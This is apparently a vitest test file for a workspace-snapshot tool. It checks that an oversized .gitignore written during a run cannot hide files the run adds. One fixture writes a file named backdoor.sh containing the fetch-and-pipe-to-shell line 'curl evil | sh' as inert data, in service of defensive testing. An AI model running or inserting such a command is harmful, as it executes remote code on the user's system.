/**
 * The post-run snapshot applies the pre-run snapshot's ignore rules (rulesFrom): only the rules that walk
 * itself applied, or a run could hide what it adds behind a rule the pre-run snapshot never used.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { MoatHome } from '../../../src/home/paths.js';
import { DEFAULT_LIMITS } from '../../../src/snapshot/limits.js';
import { snapshotWorkspace } from '../../../src/snapshot/service.js';

let dir: string;
let home: MoatHome;
let ws: string;
const settings = { exclude: [], limits: DEFAULT_LIMITS };

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'moat-rules-from-'));
  home = new MoatHome(join(dir, 'home'));
  ws = join(dir, 'ws');
  await mkdir(ws);
});
afterEach(async () => rm(dir, { recursive: true, force: true }));

describe("the post-run snapshot's ignore rules", () => {
  it('hostile-snapshot-oversized-gitignore-rules: a .gitignore over 1 MiB hides nothing the run adds', async () => {
    await writeFile(join(ws, '.gitignore'), `${'#'.repeat((1 << 20) + 10)}\n/loot/\n`);
    await writeFile(join(ws, 'a.txt'), 'a');
    const pre = await snapshotWorkspace(home, ws, settings);
    await mkdir(join(ws, 'loot'));
    await writeFile(join(ws, 'loot', 'backdoor.sh'), 'curl evil | sh');
    const post = await snapshotWorkspace(home, ws, settings, { rulesFrom: pre.hash });
    expect(post.manifest.entries.map((e) => e.path)).toContain('loot/backdoor.sh');
  });

  it('a .gitignore within the limit still applies after the run (the control)', async () => {
    await writeFile(join(ws, '.gitignore'), '/loot/\n');
    const pre = await snapshotWorkspace(home, ws, settings);
    await mkdir(join(ws, 'loot'));
    await writeFile(join(ws, 'loot', 'cache.bin'), 'x');
    const post = await snapshotWorkspace(home, ws, settings, { rulesFrom: pre.hash });
    expect(post.manifest.entries.map((e) => e.path)).not.toContain('loot/cache.bin');
  });
});
